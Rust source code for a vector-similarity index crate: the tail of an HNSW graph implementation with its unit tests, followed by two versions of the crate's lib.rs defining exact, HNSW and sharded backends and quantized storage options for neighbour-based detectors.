        params: HnswParams,
        links: Vec<Vec<Vec<usize>>>,
        entry: usize,
        top_level: usize,
        tombstone: Vec<bool>,
        draws: u64,
    ) -> Self {
        let mut rng = StdRng::seed_from_u64(params.seed);
        let level_scale = 1.0 / (params.m as f64).ln();
        for _ in 0..draws {
            sample_level(&mut rng, level_scale);
        }
        let dead = tombstone.iter().filter(|&&t| t).count();
        HnswIndex {
            data,
            norms,
            params,
            links,
            entry,
            top_level,
            tombstone,
            dead,
            rng,
            draws,
        }
    }
}

/// Draws a node level from the standard HNSW geometric-ish
/// distribution `floor(-ln(U) · scale)`, capped to keep pathological
/// draws from building absurd towers.
fn sample_level(rng: &mut StdRng, scale: f64) -> usize {
    let u: f64 = rng.gen();
    let level = (-(1.0 - u).ln() * scale).floor();
    (level as usize).min(24)
}

impl VectorIndex for HnswIndex {
    fn len(&self) -> usize {
        self.data.rows()
    }

    fn dim(&self) -> usize {
        self.data.cols()
    }

    fn query(&self, query: &[f32], k: usize) -> Vec<Neighbor> {
        assert_eq!(query.len(), self.dim(), "query dimensionality mismatch");
        if self.is_empty() || k == 0 || self.live() == 0 {
            return Vec::new();
        }
        // Prepared once per query: the whole greedy descent + beam
        // search below reuses the validated (and, on i8, quantized)
        // query.
        let pq = self.data.prepare_query(query);
        let nq = norm(query);
        let mut ep = Scored {
            similarity: self.sim(self.entry, &pq, nq),
            id: self.entry,
        };
        for l in (1..=self.top_level).rev() {
            ep = self.greedy(&pq, nq, ep, l);
        }
        // Widen the beam so filtering the dead out afterwards still
        // tends to leave k live candidates — but cap the widening at
        // one extra ef_search: an index idling just under the
        // compaction ratio must not degrade every query towards a
        // linear scan (approximate backends may return < k when the
        // cap bites; callers already tolerate that).
        let base = self.params.ef_search.max(k);
        let ef = base.saturating_add(self.dead.min(base));
        let found = self.search_layer(&pq, nq, &[ep], ef, 0);
        found
            .into_iter()
            .filter(|s| !self.tombstone[s.id])
            .take(k)
            .map(|s| Neighbor {
                id: s.id,
                similarity: s.similarity,
            })
            .collect()
    }

    fn insert(&mut self, row: &[f32]) -> usize {
        HnswIndex::insert(self, row)
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn quantization(&self) -> Quantization {
        self.data.quantization()
    }

    fn candidate_bytes(&self) -> usize {
        self.data.candidate_bytes()
    }

    fn resident_bytes(&self) -> usize {
        let links: usize = self
            .links
            .iter()
            .map(|levels| {
                levels
                    .iter()
                    .map(|l| l.len() * std::mem::size_of::<usize>())
                    .sum::<usize>()
            })
            .sum();
        self.data.candidate_bytes()
            + self.norms.len() * std::mem::size_of::<f32>()
            + links
            + self.tombstone.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ExactIndex;
    use linalg::rng::randn;

    #[test]
    fn finds_the_exact_nearest_on_clustered_data() {
        let mut rng = StdRng::seed_from_u64(21);
        let centers = randn(&mut rng, 12, 16, 1.0);
        let data = linalg::rng::clustered_around(&mut rng, &centers, 300, 0.15);
        let exact = ExactIndex::build(data.clone());
        let hnsw = HnswIndex::build(data.clone(), HnswParams::default());
        let queries = linalg::rng::clustered_around(&mut rng, &centers, 24, 0.15);
        let mut hits = 0;
        for r in 0..queries.rows() {
            let want = exact.query(queries.row(r), 1)[0];
            let got = hnsw.query(queries.row(r), 1)[0];
            if got.id == want.id {
                hits += 1;
                assert_eq!(got.similarity, want.similarity);
            }
        }
        assert!(hits >= 22, "recall@1 too low: {hits}/24");
    }

    #[test]
    fn same_seed_builds_identical_graphs() {
        let mut rng = StdRng::seed_from_u64(22);
        let data = randn(&mut rng, 120, 8, 1.0);
        let a = HnswIndex::build(data.clone(), HnswParams::default());
        let b = HnswIndex::build(data.clone(), HnswParams::default());
        assert_eq!(a.links, b.links);
        let q = data.row(17);
        assert_eq!(a.query(q, 5), b.query(q, 5));
    }

    #[test]
    fn insert_after_build_matches_building_all_at_once() {
        // The RNG lives in the index and the insert path is the
        // construction path, so build(80) + 40 inserts must equal
        // build(120) node for node.
        let mut rng = StdRng::seed_from_u64(31);
        let data = randn(&mut rng, 120, 8, 1.0);
        let all_at_once = HnswIndex::build(data.clone(), HnswParams::default());
        let mut incremental = HnswIndex::build(data.row_block(0, 80), HnswParams::default());
        for r in 80..120 {
            let id = incremental.insert(data.row(r));
            assert_eq!(id, r);
        }
        assert_eq!(incremental.links, all_at_once.links);
        assert_eq!(incremental.entry, all_at_once.entry);
        let q = data.row(17);
        assert_eq!(incremental.query(q, 5), all_at_once.query(q, 5));
    }

    #[test]
    fn removed_nodes_never_surface_in_results() {
        let mut rng = StdRng::seed_from_u64(32);
        let data = randn(&mut rng, 200, 8, 1.0);
        // High threshold so removals tombstone without compacting.
        let params = HnswParams::default().with_compact_ratio(0.9);
        let mut idx = HnswIndex::build(data.clone(), params);
        for id in [3, 17, 42, 99] {
            assert_eq!(idx.remove(id), Some(Vec::new()));
        }
        assert_eq!(idx.tombstones(), 4);
        assert_eq!(idx.live(), 196);
        // Double-remove and out-of-range are rejected.
        assert_eq!(idx.remove(3), None);
        assert_eq!(idx.remove(10_000), None);
        for r in (0..200).step_by(13) {
            for n in idx.query(data.row(r), 10) {
                assert!(!matches!(n.id, 3 | 17 | 42 | 99), "tombstoned id surfaced");
            }
        }
    }

    #[test]
    fn crossing_the_tombstone_ratio_triggers_compaction() {
        let mut rng = StdRng::seed_from_u64(33);
        let data = randn(&mut rng, 60, 6, 1.0);
        let params = HnswParams::default().with_compact_ratio(0.25);
        let mut idx = HnswIndex::build(data.clone(), params);
        let passes_before = construction_passes();
        // 14 tombstones stay under the 25% ratio; the 15th compacts.
        for id in 0..14 {
            assert_eq!(idx.remove(id), Some(Vec::new()), "id {id}");
        }
        assert_eq!(construction_passes(), passes_before);
        let remap = idx.remove(14).expect("15th removal compacts");
        assert_eq!(construction_passes(), passes_before + 1);
        assert_eq!(remap.len(), 60);
        assert!(remap[..15].iter().all(Option::is_none));
        // Survivors renumber densely in order.
        for (offset, slot) in remap[15..].iter().enumerate() {
            assert_eq!(*slot, Some(offset));
        }
        assert_eq!(idx.len(), 45);
        assert_eq!(idx.tombstones(), 0);
        // The compacted graph still answers: a survivor finds itself.
        let top = idx.query(data.row(30), 1);
        assert_eq!(top[0].id, remap[30].unwrap());
    }

    #[test]
    fn removing_every_node_then_compacting_leaves_a_working_empty_index() {
        let mut rng = StdRng::seed_from_u64(34);
        let data = randn(&mut rng, 30, 5, 1.0);
        // Ratio 1.0: tombstones accumulate without compacting until the
        // last removal empties the index.
        let params = HnswParams::default().with_compact_ratio(1.0);
        let mut idx = HnswIndex::build(data.clone(), params);
        for id in 0..29 {
            assert_eq!(idx.remove(id), Some(Vec::new()), "id {id}");
        }
        let remap = idx.remove(29).expect("last removal compacts");
        assert_eq!(remap.len(), 30);
        assert!(remap.iter().all(Option::is_none));
        assert_eq!(idx.len(), 0);
        assert_eq!(idx.live(), 0);
        assert_eq!(idx.tombstones(), 0);
        assert!(idx.query(data.row(0), 3).is_empty());
        // A second compaction of the empty index is a no-op.
        assert!(idx.compact().is_empty());

        // Inserts into the emptied index assign fresh dense ids from 0
        // and the graph answers again.
        for r in 0..5 {
            assert_eq!(idx.insert(data.row(r)), r);
        }
        assert_eq!(idx.len(), 5);
        let top = idx.query(data.row(2), 1);
        assert_eq!(top[0].id, 2);
        assert!((top[0].similarity - 1.0).abs() < 1e-5);
    }

    #[test]
    fn insert_after_compaction_never_reuses_a_tombstoned_slot() {
        let mut rng = StdRng::seed_from_u64(35);
        let data = randn(&mut rng, 40, 5, 1.0);
        let params = HnswParams::default().with_compact_ratio(0.9);
        let mut idx = HnswIndex::build(data.clone(), params);
        for id in [1, 5, 9] {
            idx.remove(id);
        }
        // Tombstones present, no compaction yet: a new insert must get
        // a fresh id past the end, not a recycled dead slot.
        let fresh = idx.insert(data.row(0));
        assert_eq!(fresh, 40);
        assert!(!idx.query(data.row(0), 40).iter().any(|n| n.id == 1));

        let remap = idx.compact();
        assert_eq!(idx.tombstones(), 0);
        assert_eq!(idx.len(), 38);
        // Post-compaction ids are a fresh dense space; the next insert
        // extends it.
        assert_eq!(idx.insert(data.row(3)), 38);
        let got = idx.query(data.row(3), 2);
        assert_eq!(got[0].similarity, 1.0);
        // Every surviving id answers queries inside the new bounds.
        for n in idx.query(data.row(7), 39) {
            assert!(n.id < idx.len());
        }
        assert_eq!(remap.len(), 41);
    }

    #[test]
    fn empty_build_accepts_inserts_and_queries() {
        let mut idx = HnswIndex::build(Matrix::zeros(0, 3), HnswParams::default());
        assert!(idx.is_empty());
        assert!(idx.query(&[1.0, 0.0, 0.0], 2).is_empty());
        assert_eq!(idx.insert(&[1.0, 0.0, 0.0]), 0);
        assert_eq!(idx.insert(&[0.0, 1.0, 0.0]), 1);
        let top = idx.query(&[0.9, 0.1, 0.0], 1);
        assert_eq!(top[0].id, 0);
    }

    #[test]
    fn link_budgets_are_respected() {
        let mut rng = StdRng::seed_from_u64(23);
        let data = randn(&mut rng, 300, 8, 1.0);
        let params = HnswParams::default().with_m(6);
        let idx = HnswIndex::build(data, params);
        for (node, levels) in idx.links.iter().enumerate() {
            for (l, nbs) in levels.iter().enumerate() {
                let budget = if l == 0 { 12 } else { 6 };
                assert!(
                    nbs.len() <= budget,
                    "node {node} level {l} has {} links",
                    nbs.len()
                );
            }
        }
    }

    #[test]
    fn singleton_and_tiny_indexes_answer() {
        let data = Matrix::from_rows(&[&[1.0, 0.0]]);
        let idx = HnswIndex::build(data, HnswParams::default());
        let top = idx.query(&[1.0, 0.0], 3);
        assert_eq!(top.len(), 1);
        assert_eq!(top[0].id, 0);
    }

    #[test]
    fn query_k_zero_is_empty() {
        let data = Matrix::from_rows(&[&[1.0, 0.0], &[0.0, 1.0]]);
        let idx = HnswIndex::build(data, HnswParams::default());
        assert!(idx.query(&[1.0, 0.0], 0).is_empty());
    }

    #[test]
    fn quantized_insert_after_build_matches_building_all_at_once() {
        // Per-row quantization is independent of neighbouring rows and
        // the RNG lives in the index, so the build/insert equivalence
        // holds in every storage format, not just f32.
        let mut rng = StdRng::seed_from_u64(36);
        let data = randn(&mut rng, 100, 8, 1.0);
        for quant in [Quantization::F16, Quantization::I8] {
            let all = HnswIndex::build_quantized(
                data.clone(),
                row_norms(&data),
                HnswParams::default(),
                quant,
            );
            let head = data.row_block(0, 70);
            let mut incremental = HnswIndex::build_quantized(
                head.clone(),
                row_norms(&head),
                HnswParams::default(),
                quant,
            );
            for r in 70..100 {
                assert_eq!(incremental.insert(data.row(r)), r, "{quant}");
            }
            assert_eq!(incremental.links, all.links, "{quant}");
            let q = data.row(17);
            assert_eq!(incremental.query(q, 5), all.query(q, 5), "{quant}");
        }
    }

    #[test]
    fn quantized_compaction_is_lossless() {
        let mut rng = StdRng::seed_from_u64(37);
        let data = randn(&mut rng, 60, 6, 1.0);
        for quant in [Quantization::F16, Quantization::I8] {
            let params = HnswParams::default().with_compact_ratio(0.9);
            let mut idx = HnswIndex::build_quantized(data.clone(), row_norms(&data), params, quant);
            for id in [2, 7, 11] {
                idx.remove(id);
            }
            let before: Vec<Vec<f32>> = (0..60).map(|r| idx.data.decode_row(r)).collect();
            let remap = idx.compact();
            assert_eq!(idx.quantization(), quant);
            // Raw-code row copy: survivors decode to exactly the bytes
            // they held before compaction (no re-quantization drift).
            for (old, slot) in remap.iter().enumerate() {
                if let Some(new) = slot {
                    assert_eq!(idx.data.decode_row(*new), before[old], "{quant}");
                }
            }
        }
    }

    #[test]
    fn all_zero_rows_and_queries_stay_finite_in_every_format() {
        // Zero-norm pin at the graph level: degenerate rows score 0.0
        // through `sim` (the cosine_with_norms contract) in every
        // storage format, traversal never divides by zero, and results
        // stay deterministic.
        let data = Matrix::from_rows(&[
            &[0.0, 0.0, 0.0],
            &[1.0, 0.0, 0.0],
            &[0.0, 1.0, 0.0],
            &[0.0, 0.0, 0.0],
        ]);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let idx = HnswIndex::build_quantized(
                data.clone(),
                row_norms(&data),
                HnswParams::default(),
                quant,
            );
            let top = idx.query(&[1.0, 0.0, 0.0], 4);
            assert!(top.iter().all(|n| n.similarity.is_finite()), "{quant}");
            assert_eq!(top[0].id, 1, "{quant}");
            for n in &top {
                if matches!(n.id, 0 | 3) {
                    assert_eq!(n.similarity, 0.0, "{quant}: zero row must score 0.0");
                }
            }
            let zero_q = idx.query(&[0.0, 0.0, 0.0], 4);
            assert_eq!(zero_q, idx.query(&[0.0, 0.0, 0.0], 4), "{quant}");
            assert!(zero_q.iter().all(|n| n.similarity == 0.0), "{quant}");
        }
    }
}
