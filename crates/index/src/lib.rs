//! The vector-index layer: sublinear (and exact) cosine-similarity
//! nearest-neighbour search behind every neighbour-based detector.
//!
//! The paper's best-performing method — Section IV-D retrieval, k = 1
//! over malicious exemplars — and both kNN ablations reduce to the
//! same primitive: *given a fixed candidate embedding matrix, find the
//! k candidates most cosine-similar to a query*. [`VectorIndex`]
//! captures that primitive; two backends implement it:
//!
//! * [`ExactIndex`] — brute-force scan with candidate norms
//!   precomputed once at build time and batch queries fanned out over
//!   crossbeam-scoped threads. Results are **bit-identical** to the
//!   historical per-call [`linalg::ops::cosine_similarity`] scan
//!   (asserted in this crate's tests and pinned end-to-end in
//!   `crates/bench/tests/index_backends.rs`), so it is the
//!   paper-faithful default.
//! * [`HnswIndex`] — a hierarchical navigable small-world graph
//!   (Malkov & Yashunin) giving approximate top-k in sublinear time.
//!   Construction is deterministic via the seeded `rand` shim;
//!   `ef_search` trades recall for latency at query time.
//!
//! Consumers pick a backend through [`IndexConfig`], which the scoring
//! engine threads down to every registered neighbour-based detector —
//! a suite switches the whole run between exact and approximate with
//! one knob (`--index exact|hnsw` on the table binaries). Orthogonal
//! to the backend choice, [`IndexConfig::quant`] selects the candidate
//! **storage format** ([`Quantization`]): `f32` (bit-identical to the
//! historical scans), `f16` (half the candidate bandwidth, ≤ 1-ulp
//! element error), or per-row symmetric `i8` (quarter bandwidth) —
//! `--quant f32|f16|i8` on the table binaries, applied per shard on
//! sharded backends.

mod exact;
mod hnsw;
pub mod persist;
mod sharded;

pub use exact::ExactIndex;
pub use hnsw::{construction_passes, HnswIndex, HnswParams};
pub use linalg::quant::{Quantization, QuantizedMatrix};
pub use persist::IndexSnapshot;
pub use sharded::{
    merge_shard_topk, merge_sorted_topk, shard_for_row, ShardBackend, ShardedIndex, ShardedParams,
    DEFAULT_SHARD_SEED,
};

use linalg::Matrix;

/// One retrieved candidate: its row id in the indexed matrix and its
/// cosine similarity to the query (higher = closer).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Neighbor {
    /// Row index into the indexed candidate matrix.
    pub id: usize,
    /// Cosine similarity to the query.
    pub similarity: f32,
}

/// k-nearest-neighbour search over a fixed candidate embedding matrix.
///
/// Implementations return neighbours sorted by descending similarity
/// and clamp `k` to the candidate count. `Send + Sync` so fitted
/// detectors holding a boxed index can be scored from the engine's
/// parallel fan-out.
pub trait VectorIndex: Send + Sync + std::fmt::Debug {
    /// Number of indexed candidates.
    fn len(&self) -> usize;

    /// Whether the index holds no candidates.
    fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Embedding dimensionality.
    fn dim(&self) -> usize;

    /// Up to `min(k, len)` candidates most cosine-similar to `query`,
    /// sorted by descending similarity. The exact backend always
    /// returns exactly `min(k, len)`; approximate backends may return
    /// fewer when part of the graph is unreachable from the entry
    /// point.
    ///
    /// # Panics
    ///
    /// Panics if `query.len() != self.dim()`.
    fn query(&self, query: &[f32], k: usize) -> Vec<Neighbor>;

    /// [`VectorIndex::query`] for every row of `queries`, in row
    /// order. Backends fan large batches out across threads (see
    /// [`query_rows_parallel`]).
    fn query_batch(&self, queries: &Matrix, k: usize) -> Vec<Vec<Neighbor>> {
        query_rows_parallel(self, queries, k)
    }

    /// Adds one candidate to the live index, returning its id (ids are
    /// dense: the new id is the previous [`VectorIndex::len`]). The
    /// exact backend appends a row + norm; HNSW wires the node into the
    /// graph through the construction path — this is what lets a
    /// serving process absorb supervision as it arrives instead of
    /// rebuilding.
    ///
    /// # Panics
    ///
    /// Panics if `row.len() != self.dim()` on a non-empty index.
    fn insert(&mut self, row: &[f32]) -> usize;

    /// Concrete-type escape hatch for persistence
    /// ([`persist::IndexSnapshot::capture`] downcasts to the backend
    /// it knows how to serialize).
    fn as_any(&self) -> &dyn std::any::Any;

    /// The candidate storage format this index holds (sharded indexes
    /// report the format their shards were built with).
    fn quantization(&self) -> Quantization {
        Quantization::F32
    }

    /// Bytes the candidate storage occupies — codes plus any per-row
    /// scales (the figure the quantization benches compare; one exact
    /// scan streams exactly this many bytes per query). The default
    /// covers scale-free formats; i8-capable backends override to
    /// include their scale vectors.
    fn candidate_bytes(&self) -> usize {
        self.len() * self.dim() * self.quantization().bytes_per_element()
    }

    /// Bytes this index keeps resident beyond a cold scan: candidate
    /// storage plus cached norms, graph adjacency, tombstones — the
    /// figure a memory-budgeted tenant map charges for a *hot* index.
    /// The default covers backends whose only state is the candidate
    /// storage; graph-carrying backends override to add their links.
    fn resident_bytes(&self) -> usize {
        self.candidate_bytes()
    }
}

/// The total order every backend ranks neighbours by: similarity
/// descending, then id ascending. It is exactly the order the
/// historical stable descending sort produced (stable ⇒ ties keep
/// ascending row order), which is what keeps the exact backend — and
/// any merge of exact partitions — bit-identical to the pre-index
/// detectors.
pub fn neighbour_cmp(a: &Neighbor, b: &Neighbor) -> std::cmp::Ordering {
    b.similarity
        .partial_cmp(&a.similarity)
        .unwrap_or(std::cmp::Ordering::Equal)
        .then_with(|| a.id.cmp(&b.id))
}

/// Minimum query rows each batch worker should own: batches smaller
/// than two workers' worth run inline rather than paying thread
/// spawns.
const MIN_ROWS_PER_WORKER: usize = 16;

/// Shared batch-query harness: chunks `queries` by rows and runs
/// [`VectorIndex::query`] per row, fanning chunks out over the
/// crossbeam `scope` shim when the batch is large enough to amortize
/// thread spawns. Output order matches query row order exactly.
pub fn query_rows_parallel<I: VectorIndex + ?Sized>(
    index: &I,
    queries: &Matrix,
    k: usize,
) -> Vec<Vec<Neighbor>> {
    let n = queries.rows();
    let mut out: Vec<Vec<Neighbor>> = Vec::with_capacity(n);
    out.resize_with(n, Vec::new);
    let threads = std::thread::available_parallelism()
        .map(|t| t.get())
        .unwrap_or(1);
    let chunk = n.div_ceil(threads).max(MIN_ROWS_PER_WORKER);
    if n < 2 * MIN_ROWS_PER_WORKER || n <= chunk {
        for (r, slot) in out.iter_mut().enumerate() {
            *slot = index.query(queries.row(r), k);
        }
        return out;
    }
    crossbeam::scope(|scope| {
        for (ci, slice) in out.chunks_mut(chunk).enumerate() {
            let start = ci * chunk;
            scope.spawn(move |_| {
                for (i, slot) in slice.iter_mut().enumerate() {
                    *slot = index.query(queries.row(start + i), k);
                }
            });
        }
    })
    .expect("index batch-query worker panicked");
    out
}

/// Which [`VectorIndex`] backend an [`IndexConfig`] builds.
///
/// `Exact` is the default everywhere: it reproduces the paper's
/// brute-force scores bit-for-bit. `Hnsw` trades exactness for
/// sublinear queries; see [`HnswParams`] for the knobs. `Sharded`
/// partitions either backend across N sub-indexes behind a seeded
/// content-stable hash ([`ShardedIndex`]) — sharded-exact stays
/// bit-identical to `Exact`.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub enum IndexBackend {
    /// Brute-force scan; bit-identical to the historical detectors.
    #[default]
    Exact,
    /// Approximate HNSW graph search with the given parameters.
    Hnsw(HnswParams),
    /// A deterministic partition of N backends (see [`ShardedIndex`]).
    Sharded(ShardedParams),
}

/// Everything a neighbour-based detector needs to build its candidate
/// index: the search **backend** and the candidate **storage format**.
///
/// The two axes are orthogonal and compose freely — a 4-way sharded
/// HNSW partition over int8 rows is
/// `IndexConfig::hnsw().with_quant(Quantization::I8).with_shards(4)`.
/// The default (`IndexConfig::Exact`, f32) is the paper-faithful,
/// bit-reproducible configuration.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct IndexConfig {
    /// The search backend.
    pub backend: IndexBackend,
    /// The candidate storage format (applied per shard on sharded
    /// backends — each shard quantizes its own rows, which is what
    /// lets quantization roll out shard by shard).
    pub quant: Quantization,
}

impl IndexConfig {
    /// The exact brute-force backend over f32 storage — the
    /// paper-faithful default, spelled like the historical enum
    /// variant so the many construction sites read unchanged.
    #[allow(non_upper_case_globals)]
    pub const Exact: IndexConfig = IndexConfig {
        backend: IndexBackend::Exact,
        quant: Quantization::F32,
    };

    /// The HNSW backend with default parameters (f32 storage).
    pub fn hnsw() -> Self {
        Self::hnsw_with(HnswParams::default())
    }

    /// The HNSW backend with explicit parameters (f32 storage).
    pub fn hnsw_with(params: HnswParams) -> Self {
        IndexConfig {
            backend: IndexBackend::Hnsw(params),
            quant: Quantization::F32,
        }
    }

    /// A sharded backend with the given partition shape (f32 storage).
    pub fn sharded(params: ShardedParams) -> Self {
        IndexConfig {
            backend: IndexBackend::Sharded(params),
            quant: Quantization::F32,
        }
    }

    /// This backend with candidates stored in `quant` format (the
    /// `--quant` CLI knob). `Quantization::F32` is the bit-identical
    /// default.
    pub fn with_quant(mut self, quant: Quantization) -> Self {
        self.quant = quant;
        self
    }

    /// This backend partitioned across `shards` sub-indexes (the
    /// `--shards` CLI knob). `shards <= 1` unwraps back to the plain
    /// backend, so `config.with_shards(1)` is always the unsharded
    /// config. The storage format is preserved either way.
    pub fn with_shards(self, shards: usize) -> Self {
        let (backend, seed) = match self.backend {
            IndexBackend::Exact => (ShardBackend::Exact, DEFAULT_SHARD_SEED),
            IndexBackend::Hnsw(p) => (ShardBackend::Hnsw(p), DEFAULT_SHARD_SEED),
            IndexBackend::Sharded(p) => (p.backend, p.seed),
        };
        let backend = if shards <= 1 {
            match backend {
                ShardBackend::Exact => IndexBackend::Exact,
                ShardBackend::Hnsw(p) => IndexBackend::Hnsw(p),
            }
        } else {
            IndexBackend::Sharded(ShardedParams {
                shards,
                seed,
                backend,
            })
        };
        IndexConfig {
            backend,
            quant: self.quant,
        }
    }

    /// How many partitions this config builds (1 for the unsharded
    /// backends).
    pub fn shards(&self) -> usize {
        match self.backend {
            IndexBackend::Sharded(p) => p.shards,
            _ => 1,
        }
    }

    /// Builds the configured backend over `data`, deriving candidate
    /// norms from the matrix.
    pub fn build(self, data: Matrix) -> Box<dyn VectorIndex> {
        let norms = linalg::ops::row_norms(&data);
        self.build_with_norms(data, norms)
    }

    /// Builds the configured backend over `data` with candidate norms
    /// the caller already holds (e.g. memoized on an embedding view),
    /// skipping the re-derivation. Norms are always the **original
    /// f32** row norms, whatever the storage format — quantized
    /// kernels reuse the same norm cache.
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn build_with_norms(self, data: Matrix, norms: Vec<f32>) -> Box<dyn VectorIndex> {
        match self.backend {
            IndexBackend::Exact => Box::new(ExactIndex::build_quantized(data, norms, self.quant)),
            IndexBackend::Hnsw(params) => {
                Box::new(HnswIndex::build_quantized(data, norms, params, self.quant))
            }
            IndexBackend::Sharded(params) => Box::new(ShardedIndex::build_quantized(
                data, norms, params, self.quant,
            )),
        }
    }

    /// Short stable name for reporting: the backend (`"exact"` /
    /// `"hnsw"` / `"sharded-exact"` / `"sharded-hnsw"`), with a
    /// `+f16` / `+i8` suffix when the storage is quantized.
    pub fn name(&self) -> &'static str {
        let backend = match self.backend {
            IndexBackend::Exact => "exact",
            IndexBackend::Hnsw(_) => "hnsw",
            IndexBackend::Sharded(p) => match p.backend {
                ShardBackend::Exact => "sharded-exact",
                ShardBackend::Hnsw(_) => "sharded-hnsw",
            },
        };
        match (backend, self.quant) {
            (b, Quantization::F32) => b,
            ("exact", Quantization::F16) => "exact+f16",
            ("hnsw", Quantization::F16) => "hnsw+f16",
            ("sharded-exact", Quantization::F16) => "sharded-exact+f16",
            (_, Quantization::F16) => "sharded-hnsw+f16",
            ("exact", Quantization::I8) => "exact+i8",
            ("hnsw", Quantization::I8) => "hnsw+i8",
            ("sharded-exact", Quantization::I8) => "sharded-exact+i8",
            (_, Quantization::I8) => "sharded-hnsw+i8",
        }
    }
}

impl std::str::FromStr for IndexConfig {
    type Err = String;

    /// Parses the CLI spelling: `exact` or `hnsw` (default
    /// parameters, f32 storage — `--quant` folds the format in
    /// afterwards).
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "exact" => Ok(IndexConfig::Exact),
            "hnsw" => Ok(IndexConfig::hnsw()),
            other => Err(format!("unknown index backend {other:?} (exact|hnsw)")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn config_builds_both_backends() {
        let mut rng = StdRng::seed_from_u64(3);
        let data = randn(&mut rng, 40, 8, 1.0);
        let q = data.row(7).to_vec();
        for config in [IndexConfig::Exact, IndexConfig::hnsw()] {
            let idx = config.build(data.clone());
            assert_eq!(idx.len(), 40);
            assert_eq!(idx.dim(), 8);
            let top = idx.query(&q, 1);
            assert_eq!(
                top[0].id,
                7,
                "{}: self-query must return itself",
                config.name()
            );
            assert!((top[0].similarity - 1.0).abs() < 1e-5);
        }
    }

    #[test]
    fn config_parses_from_cli_spelling() {
        assert_eq!("exact".parse::<IndexConfig>().unwrap(), IndexConfig::Exact);
        assert_eq!("hnsw".parse::<IndexConfig>().unwrap(), IndexConfig::hnsw());
        assert!("annoy".parse::<IndexConfig>().is_err());
    }

    #[test]
    fn with_shards_wraps_and_unwraps_backends() {
        let sharded = IndexConfig::Exact.with_shards(4);
        assert_eq!(sharded.shards(), 4);
        assert_eq!(sharded.name(), "sharded-exact");
        // shards <= 1 unwraps back to the plain backend.
        assert_eq!(sharded.with_shards(1), IndexConfig::Exact);
        let hnsw = IndexConfig::hnsw().with_shards(3);
        assert_eq!(hnsw.name(), "sharded-hnsw");
        assert_eq!(hnsw.with_shards(0), IndexConfig::hnsw());
        // Re-wrapping keeps the backend and changes the count.
        assert_eq!(hnsw.with_shards(5).shards(), 5);

        let mut rng = StdRng::seed_from_u64(5);
        let data = randn(&mut rng, 30, 6, 1.0);
        let idx = sharded.build(data.clone());
        let exact = IndexConfig::Exact.build(data.clone());
        assert_eq!(idx.len(), 30);
        assert_eq!(idx.query(data.row(3), 2), exact.query(data.row(3), 2));
    }

    #[test]
    fn quant_axis_composes_with_backend_and_shards() {
        let config = IndexConfig::Exact.with_quant(Quantization::I8);
        assert_eq!(config.name(), "exact+i8");
        assert_eq!(config.quant, Quantization::I8);
        // Sharding preserves the format; unsharding does too.
        let sharded = config.with_shards(4);
        assert_eq!(sharded.name(), "sharded-exact+i8");
        assert_eq!(sharded.quant, Quantization::I8);
        assert_eq!(sharded.with_shards(1), config);
        assert_eq!(
            IndexConfig::hnsw().with_quant(Quantization::F16).name(),
            "hnsw+f16"
        );

        let mut rng = StdRng::seed_from_u64(6);
        let data = randn(&mut rng, 40, 8, 1.0);
        for quant in [Quantization::F16, Quantization::I8] {
            for config in [
                IndexConfig::Exact.with_quant(quant),
                IndexConfig::hnsw().with_quant(quant),
                IndexConfig::Exact.with_quant(quant).with_shards(3),
            ] {
                let idx = config.build(data.clone());
                assert_eq!(idx.quantization(), quant, "{}", config.name());
                let top = idx.query(data.row(7), 1);
                assert_eq!(top[0].id, 7, "{}: self-query finds itself", config.name());
                assert!((top[0].similarity - 1.0).abs() < 2e-2, "{}", config.name());
            }
        }
    }

    #[test]
    fn batch_matches_sequential_across_the_parallel_threshold() {
        let mut rng = StdRng::seed_from_u64(4);
        let data = randn(&mut rng, 100, 6, 1.0);
        // Enough query rows to trigger the threaded path on any core count.
        let queries = randn(&mut rng, 700, 6, 1.0);
        let idx = ExactIndex::build(data);
        let batched = idx.query_batch(&queries, 3);
        assert_eq!(batched.len(), 700);
        for r in (0..700).step_by(97) {
            assert_eq!(batched[r], idx.query(queries.row(r), 3));
        }
    }
}
