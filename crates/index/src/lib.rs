//! The vector-index layer: sublinear (and exact) cosine-similarity
//! nearest-neighbour search behind every neighbour-based detector.
//!
//! The paper's best-performing method — Section IV-D retrieval, k = 1
//! over malicious exemplars — and both kNN ablations reduce to the
//! same primitive: *given a fixed candidate embedding matrix, find the
//! k candidates most cosine-similar to a query*. [`VectorIndex`]
//! captures that primitive; two backends implement it:
//!
//! * [`ExactIndex`] — brute-force scan with candidate norms
//!   precomputed once at build time and batch queries fanned out over
//!   crossbeam-scoped threads. Results are **bit-identical** to the
//!   historical per-call [`linalg::ops::cosine_similarity`] scan
//!   (asserted in this crate's tests and pinned end-to-end in
//!   `crates/bench/tests/index_backends.rs`), so it is the
//!   paper-faithful default.
//! * [`HnswIndex`] — a hierarchical navigable small-world graph
//!   (Malkov & Yashunin) giving approximate top-k in sublinear time.
//!   Construction is deterministic via the seeded `rand` shim;
//!   `ef_search` trades recall for latency at query time.
//!
//! Consumers pick a backend through [`IndexConfig`], which the scoring
//! engine threads down to every registered neighbour-based detector —
//! a suite switches the whole run between exact and approximate with
//! one knob (`--index exact|hnsw` on the table binaries).

mod exact;
mod hnsw;
pub mod persist;
mod sharded;

pub use exact::ExactIndex;
pub use hnsw::{construction_passes, HnswIndex, HnswParams};
pub use persist::IndexSnapshot;
pub use sharded::{
    merge_shard_topk, merge_sorted_topk, shard_for_row, ShardBackend, ShardedIndex, ShardedParams,
    DEFAULT_SHARD_SEED,
};

use linalg::Matrix;

/// One retrieved candidate: its row id in the indexed matrix and its
/// cosine similarity to the query (higher = closer).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Neighbor {
    /// Row index into the indexed candidate matrix.
    pub id: usize,
    /// Cosine similarity to the query.
    pub similarity: f32,
}

/// k-nearest-neighbour search over a fixed candidate embedding matrix.
///
/// Implementations return neighbours sorted by descending similarity
